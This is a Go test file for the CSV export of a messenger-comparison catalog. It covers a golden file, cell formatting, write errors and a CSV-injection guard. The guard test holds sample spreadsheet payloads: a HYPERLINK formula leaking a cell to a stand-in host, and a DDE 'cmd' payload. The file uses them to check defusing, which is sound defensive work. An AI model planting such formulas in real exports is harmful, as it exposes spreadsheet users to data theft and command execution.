package catalog

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestWriteCSVGolden compares the CSV of the test catalog with
// testdata/catalog.csv; go test -run WriteCSV -update rewrites the file.
func TestWriteCSVGolden(t *testing.T) {
	cat, err := Load(os.DirFS(filepath.Join("testdata", "valid")), Options{Today: today})
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, cat); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	golden := filepath.Join("testdata", "catalog.csv")
	if *update {
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -run WriteCSV -update to create it)", err)
	}
	if got := buf.String(); got != string(want) {
		t.Errorf("WriteCSV differs from %s (run with -update if the change is intended)\ngot:\n%s\nwant:\n%s", golden, got, want)
	}

	t.Run("every row has a column per criterion plus id, name, homepage and discontinued", func(t *testing.T) {
		r := csv.NewReader(bytes.NewReader(buf.Bytes()))
		r.FieldsPerRecord = len(cat.Criteria) + 4
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("reading the CSV back: %v", err)
		}
		if got, want := len(rows), len(cat.Apps)+1; got != want {
			t.Errorf("rows = %d, want a header and one row per messenger (%d)", got, want)
		}
		if got := strings.Join(rows[0][:3], ","); got != "id,name,homepage" {
			t.Errorf("header starts with %q, want id,name,homepage", got)
		}
		for i, c := range cat.Criteria {
			if rows[0][3+i] != c.ID {
				t.Errorf("header column %d = %q, want criterion %q", 3+i, rows[0][3+i], c.ID)
			}
		}
		for i, a := range cat.Apps {
			if rows[1+i][0] != a.ID {
				t.Errorf("row %d is %q, want %q (catalog order)", 1+i, rows[1+i][0], a.ID)
			}
		}
	})
}

func TestWriteCSVCells(t *testing.T) {
	criteria := []Criterion{
		{ID: "flag", Type: Bool}, {ID: "arch", Type: Enum, Values: []string{"p2p"}},
		{ID: "platforms", Type: Set, Values: []string{"android", "ios"}},
		{ID: "limit", Type: Number}, {ID: "since", Type: Date}, {ID: "protocol", Type: Text},
		{ID: "audits", Type: Audits},
	}
	cell := func(v Value) *Cell { return &Cell{Value: v} }
	app := App{
		ID: "x", Name: "X", Homepage: "https://x.example/",
		Discontinued: &Discontinued{Date: "2023-12-31"},
		Values: map[string]*Cell{
			"flag":      cell(Value{Type: Bool, Bool: false}),
			"arch":      cell(Value{Type: Enum, Str: "p2p"}),
			"platforms": cell(Value{Type: Set, Set: []string{"android", "ios"}}),
			"limit":     cell(Value{Type: Number, Null: true}),
			"since":     cell(Value{Type: Date, Str: "2014-07-29"}),
			"protocol":  cell(Value{Type: Text, Str: "Noise, \"IK\"\nhandshake"}),
			"audits": cell(Value{Type: Audits, Audits: []Audit{
				{Year: 2016, Auditor: "Auditor"}, {Year: 2021, Auditor: "Other"},
			}}),
		},
	}
	got := readCSV(t, New(nil, criteria, nil, []App{app}))
	want := []string{"x", "X", "https://x.example/", "false", "p2p", "android|ios", "", "2014-07-29",
		"Noise, \"IK\"\nhandshake", "2016 Auditor; 2021 Other", "2023-12-31"}
	if len(got) != 2 || strings.Join(got[1], "\x00") != strings.Join(want, "\x00") {
		t.Errorf("row = %q,\nwant %q", got[1:], want)
	}
}

// TestWriteCSVDefusesFormulas checks the guard against CSV injection: text
// that a spreadsheet would run as a formula is prefixed with an apostrophe.
func TestWriteCSVDefusesFormulas(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"a formula starting with =", `=HYPERLINK("https://evil.example/?"&A1,"click")`, `'=HYPERLINK("https://evil.example/?"&A1,"click")`},
		{"a formula starting with +", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"a formula starting with -", "-2+3", "'-2+3"},
		{"a formula starting with @", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"a tab before a formula", "\t=1", "'\t=1"},
		{"a carriage return before a formula", "\r=1", "'\r=1"},
		{"plain text", "Signal Protocol", "Signal Protocol"},
		{"operators after the first character", "a=b, c-d, e+f, g@h", "a=b, c-d, e+f, g@h"},
		{"an empty text", "", ""},
	}
	criteria := []Criterion{{ID: "protocol", Type: Text}}
	for _, tt := range tests {
		t.Run(tt.name+" is written safely", func(t *testing.T) {
			app := App{ID: "x", Name: tt.in, Homepage: "https://x.example/",
				Values: map[string]*Cell{"protocol": {Value: Value{Type: Text, Str: tt.in}}}}
			rows := readCSV(t, New(nil, criteria, nil, []App{app}))
			if got := rows[1][1]; got != tt.want {
				t.Errorf("name = %q, want %q", got, tt.want)
			}
			if got := rows[1][3]; got != tt.want {
				t.Errorf("protocol = %q, want %q", got, tt.want)
			}
		})
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errBroken }

var errBroken = errors.New("broken pipe")

func TestWriteCSVReportsWriteErrors(t *testing.T) {
	cat := New(nil, []Criterion{{ID: "flag", Type: Bool}}, nil, nil)
	if err := WriteCSV(failWriter{}, cat); !errors.Is(err, errBroken) {
		t.Errorf("WriteCSV to a failing writer = %v, want %v", err, errBroken)
	}
}

func readCSV(t *testing.T, cat *Catalog) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, cat); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v\n%s", err, buf.String())
	}
	return rows
}
